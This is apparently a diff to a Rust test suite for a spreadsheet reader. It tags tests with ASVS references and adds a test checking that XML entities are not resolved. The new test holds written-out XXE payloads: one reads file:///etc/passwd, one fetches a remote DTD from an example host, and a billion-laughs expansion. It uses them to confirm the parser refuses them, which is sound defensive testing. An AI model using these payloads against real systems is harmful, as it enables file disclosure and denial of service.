@@ -105,6 +105,7 @@ fn a_sheet_with_ten_thousand_columns_is_refused_with_its_width() {
     assert_eq!(key("wide.json", json.as_bytes()), "too-wide");
 }
 
+/// ASVS 5.2.3; attack row 13.
 #[test]
 fn a_small_xlsx_that_unpacks_to_gigabytes_is_refused() {
     let bomb = xlsx(("<row><c><v>1</v></c></row>", 40_000_000), ("<sst/>", 1));
@@ -142,6 +143,7 @@ fn an_ods_that_repeats_itself_is_bounded() {
     assert_eq!((book.sheets[0].cells.rows(), book.sheets[0].cells.columns()), (1, 1));
 }
 
+/// Attack row 13.
 #[test]
 fn deep_nesting_is_refused() {
     let json = format!("{}1{}", "[".repeat(100), "]".repeat(100));
@@ -151,6 +153,7 @@ fn deep_nesting_is_refused() {
     assert_eq!(key("a.xlsx", &xlsx(("<a>", 100_000), ("<sst/>", 1))), "too-deep");
 }
 
+/// ASVS 5.3.3; attack row 12.
 #[test]
 fn path_names_in_a_container_are_never_followed() {
     let marker = std::env::temp_dir().join("varv-sheets-slip.xml");
@@ -206,4 +209,42 @@ fn formulas_give_their_stored_result_and_say_so() {
     assert_eq!(book.sheets[0].cells.cell(0, 0), sheets::Cell::Number(7.0));
     assert!(book.sheets[0].cells.from_formula(0, 0));
     assert_eq!(book.notes[0].key, "formula-results-used");
+}
+
+/// No entity is opened, neither one of a file nor one that grows.
+/// ASVS 1.5.1.
+#[test]
+fn entities_of_a_file_open_nothing_and_do_not_grow() {
+    let grown: String =
+        (1..9).map(|n| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10))).collect();
+    for (entities, named) in [
+        ("<!ENTITY e0 SYSTEM \"file:///etc/passwd\">".to_owned(), "e0"),
+        ("<!ENTITY % p SYSTEM \"http://192.0.2.1/x.dtd\"> %p;".to_owned(), "p"),
+        (format!("<!ENTITY e0 \"haha\">{grown}"), "e8"),
+    ] {
+        let kind = format!("<?xml version=\"1.0\"?><!DOCTYPE x [{entities}]>");
+        let strings = format!("{kind}<sst><si><t>Namn</t></si><si><t>&{named};</t></si></sst>");
+        let row = |r, s| format!("<row r=\"{r}\"><c r=\"A{r}\" t=\"s\"><v>{s}</v></c></row>");
+        let sheet = format!("<worksheet><sheetData>{}{}</sheetData></worksheet>", row(1, 0), row(2, 1));
+        let cell = |text: &str| {
+            format!(
+                "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>{text}</text:p></table:table-cell></table:table-row>"
+            )
+        };
+        let content = format!(
+            "{kind}<office:document-content><office:body><office:spreadsheet><table:table table:name=\"T\">{}{}</table:table></office:spreadsheet></office:body></office:document-content>",
+            cell("Namn"),
+            cell(&format!("&{named};"))
+        );
+        let parts = [
+            ("mimetype", "application/vnd.oasis.opendocument.spreadsheet", 1),
+            ("content.xml", content.as_str(), 1),
+        ];
+        for bytes in [xlsx((&sheet, 1), (&strings, 1)), zipped(&parts)] {
+            let Ok(book) = open_bytes("x", &bytes) else { continue };
+            let cells = &book.sheets[0].cells;
+            let shown: String = (0..cells.rows()).map(|row| cells.cell(row, 0).show()).collect();
+            assert!(!shown.contains("root:") && !shown.contains("haha") && shown.len() < 200, "{shown}");
+        }
+    }
 }
